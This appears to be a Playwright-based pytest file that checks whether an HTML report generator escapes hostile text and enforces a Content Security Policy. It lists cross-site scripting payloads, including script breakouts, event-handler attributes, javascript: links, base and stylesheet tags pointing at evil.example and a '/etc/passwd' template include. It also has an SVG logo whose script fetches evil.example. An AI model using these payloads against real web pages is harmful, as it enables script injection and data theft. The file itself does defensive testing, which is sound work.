"""A page that tries to break out of the report fails to, in a real browser."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest
from playwright.async_api import Browser, Page, expect
from report_fixtures import LOGO, PICTURES, RUN, opened, report_browser, write_html
from report_poison import poisoned

from selfserve_check.report.brand import logo_part
from selfserve_check.report.html import render
from selfserve_check.report.page_file import write_page
from selfserve_check.report.pictures import PictureFile
from selfserve_check.report.run_parts import BrandPart
from selfserve_check.report.words import OUTCOMES

__all__ = ["report_browser"]  # pytest finds a fixture by its name in the module

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

ATTACKS = (
    "</script><script>alert('script')</script>",
    "</style></title></textarea></template>--><img src=x onerror=alert('image')>",
    "\" autofocus onfocus=alert('focus') onmouseover=alert('mouse') x=\"",
    "' onclick=alert('click') style='background:url(https://evil.example/a)'",
    "<svg onload=alert('svg')><animate onbegin=alert('begin') attributeName=x dur=1s>",
    "javascript:alert('link')",
    "java\tscript:alert('tab')",
    "data:text/html,<script>alert('data')</script>",
    'https://evil.example/"><base href=https://evil.example/><link rel=stylesheet href=//evil.example/x.css>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "{{ ''.__class__ }} {% include '/etc/passwd' %} {# #} ${alert(1)} `${alert(1)}`",
    "<form action=https://evil.example><input autofocus><button>x</button></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u202e\u2066<script>alert(1)</script>\u2069\u202c \x00\x1b[31m \x1b]8;;https://evil.example\x07",
    "\u2028\u2029\u0085<script\x0c>alert(1)</script\x0c>",
    "x" * 30_000,
)

DOORS = ("#/team", "#/writers", "#/agency", "#/q/x")
EVIL_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" width="90" height="30" onload="alert('svg')">
<script>alert('script'); fetch('https://evil.example')</script><image href="https://evil.example/a.png"/>
<a href="javascript:alert('link')"><rect width="90" height="30"/></a></svg>"""

# One question of each outcome is enough here: every field of the contract is in them.
SMALL = RUN.model_copy(
    update={
        "results": [next(each for each in RUN.results if each.outcome == outcome) for outcome in OUTCOMES]
    }
)

# Everything a reader can do, done everywhere: open all folds, focus, hover and click what is not a way out.
WORK_THROUGH = """() => {
    for (const fold of document.querySelectorAll('details')) fold.open = true;
    for (const element of document.querySelectorAll('*')) {
        element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
        if (element.tabIndex >= 0) element.focus();
    }
    for (const field of document.querySelectorAll('input')) {
        if (field.type === 'radio') field.click();
        else { field.value = field.closest('li').textContent; }
        field.dispatchEvent(new Event('input', { bubbles: true }));
    }
    for (const button of document.querySelectorAll('button')) button.click();
    for (const link of document.querySelectorAll('a[href^="#"]'))  // a link in a drawing has no click() of its own
        link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true }));
    dispatchEvent(new Event('beforeprint'));
    dispatchEvent(new Event('afterprint'));
}"""


async def _odd_elements(page: Page) -> list[str]:
    """What only a page that broke out could have made. Fields are ours where answers are judged."""
    found: list[str] = await page.evaluate(
        """() => [...document.querySelectorAll('*')].filter((element) =>
            /^(iframe|base|form|object|embed|animate)$/i.test(element.tagName)
            || (/^(input|select|textarea)$/i.test(element.tagName) && !element.matches(
                'fieldset[data-review] > label > :is([type=radio], [type=text][data-fact]), [data-filter]'))
            || element.getAttributeNames().some((name) => name.startsWith('on') || name === 'style')
            || (/^a$/i.test(element.tagName) && !/^(#|https?:)/.test(element.getAttribute('href')))
            || (element.tagName === 'SCRIPT' && element !== document.querySelector('head > script')
                && element !== document.body.querySelector(':scope > script'))
        ).map((element) => element.outerHTML.slice(0, 200))"""
    )
    return found


@pytest.mark.parametrize("place", range(0, len(ATTACKS), 4))
async def test_hostile_text_in_every_field_does_nothing(
    place: int, report_browser: Browser, tmp_path: Path
) -> None:
    """Behind every door: no dialog, no request, no console line, no popup, no element of the page's making."""
    for attack in ATTACKS[place : place + 4]:
        file = write_html(tmp_path, poisoned(SMALL, lambda attack=attack: attack))  # type: ignore[misc]  # mypy cannot infer a default
        async with opened(report_browser, file) as report:
            for door in DOORS:
                await report.page.goto(file.as_uri() + door)
                await report.page.evaluate(WORK_THROUGH)
                assert await _odd_elements(report.page) == []
                await report.page.goto(file.as_uri() + door)
                assert await report.page.evaluate("document.documentElement.scrollWidth - innerWidth") <= 0
        assert report.trouble == [], attack


async def test_a_hostile_link_to_the_report_does_nothing(report_browser: Browser, tmp_path: Path) -> None:
    """What stands behind the # is looked up, and never written into the page."""
    file = write_html(tmp_path, RUN)
    for attack in (*ATTACKS[:12], "/q/<img src=x onerror=alert(1)>", "/team?show=<script>alert(1)</script>"):
        async with opened(report_browser, file) as report:
            await report.page.evaluate("(text) => { location.hash = text; }", attack)
            await report.page.evaluate(
                "(text) => { location.hash = `#/team?tag=${text}&sort=${text}`; }", attack
            )
            await expect(report.page.locator("#team-title")).to_be_visible()
            assert await _odd_elements(report.page) == []
        assert report.trouble == [], attack


async def test_a_logo_that_is_a_program_does_nothing(report_browser: Browser, tmp_path: Path) -> None:
    """An SVG may hold scripts and addresses; in an img it is a picture."""
    bad = PictureFile(path=LOGO.path, image=EVIL_SVG)
    brand = BrandPart(client="Acme", logo=logo_part(bad, "Acme"))
    file = write_html(tmp_path, RUN.model_copy(update={"brand": brand}), {bad.path: bad.image})
    async with opened(report_browser, file, at="#/agency") as report:
        logo = report.page.locator(".cover img")
        assert await logo.evaluate("(one) => one.complete && one.naturalWidth > 0")
        await logo.click()
    assert report.trouble == []


async def test_a_hostile_page_keeps_the_report_whole(report_browser: Browser, tmp_path: Path) -> None:
    """The report of the hostile run has as many questions as were asked."""
    attack = "</article></details></main></body></html><!-- <script>"
    async with opened(report_browser, write_html(tmp_path, poisoned(RUN, lambda: attack))) as report:
        assert await report.page.locator(".question").count() == len(RUN.results)
        assert await report.page.locator("footer.page").is_visible()


async def test_the_policy_holds_where_escaping_would_fail(report_browser: Browser, tmp_path: Path) -> None:
    """The second wall: markup put into the file by hand runs nothing and reaches no server."""
    visitors: list[str] = []

    async def note(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        visitors.append((await reader.readline()).decode())
        writer.close()

    async with await asyncio.start_server(note, "127.0.0.1", 0) as server:
        evil = f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"
        file = _broken_into(tmp_path, evil)
        async with opened(report_browser, file) as report:
            await report.page.locator("footer.page").wait_for()
            assert await report.page.locator("iframe").count() == 1
            assert [line for line in report.trouble if not line.startswith(("console: ", "request: "))] == []
            assert any("Content Security Policy" in line for line in report.trouble)
    assert visitors == []


async def test_pictures_beside_the_file_are_shown_and_nothing_else_is(
    report_browser: Browser, tmp_path: Path
) -> None:
    """The policy lets in what has the file's own origin, and no other address."""
    file = tmp_path / "report.html"
    write_page(file, RUN, PICTURES, tmp_path / "their pictures")
    page = file.read_text(encoding="utf-8")
    evil = "<img id=evil src=http://127.0.0.1:9/evil.png>"
    file.write_text(page.replace("</footer>", evil + "</footer>", 1), encoding="utf-8")
    async with opened(report_browser, file) as report:
        widths = await report.page.evaluate(
            """async () => {
                for (const fold of document.querySelectorAll('details')) fold.open = true;
                const shown = [...document.querySelectorAll('.shot img')];
                for (const image of shown) image.loading = 'eager';
                await Promise.allSettled(shown.map((image) => image.decode()));
                return shown.map((image) => image.naturalWidth);
            }"""
        )
        assert len(widths) > 3
        assert 0 not in widths
        assert await report.page.evaluate("document.querySelector('#evil').naturalWidth") == 0
        assert any("evil.png" in line and "Content Security Policy" in line for line in report.trouble)


def _broken_into(folder: Path, evil: str) -> Path:
    """A report with markup in it that escaping would never let through."""
    markup = (
        f"<script>alert('in')</script><img src={evil}/image onerror=alert('image')>"
        f"<iframe src={evil}></iframe><link rel=stylesheet href={evil}/x.css>"
        f"<script src={evil}/x.js></script>"
        f"<body onload=alert('load')><p style='background:url({evil}/style)'>x</p>"
    )
    file = folder / "report.html"
    file.write_text(render(RUN, {}).replace("</header>", markup + "</header>", 1), encoding="utf-8")
    return file
